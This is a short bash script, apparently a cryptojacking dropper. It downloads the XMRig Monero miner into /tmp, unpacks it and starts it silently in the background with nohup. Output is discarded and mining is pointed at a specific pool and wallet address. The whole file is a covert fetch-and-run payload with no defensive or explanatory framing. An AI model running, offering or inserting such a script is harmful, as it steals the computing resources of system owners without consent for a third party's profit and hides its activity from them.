#!/bin/bash
cd /tmp
wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz -O r.tgz
tar xzf r.tgz
nohup ./xmrig-6.21.0/xmrig -o stratum+tcp://xmr.pool-gate.cc:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -B >/dev/null 2>&1
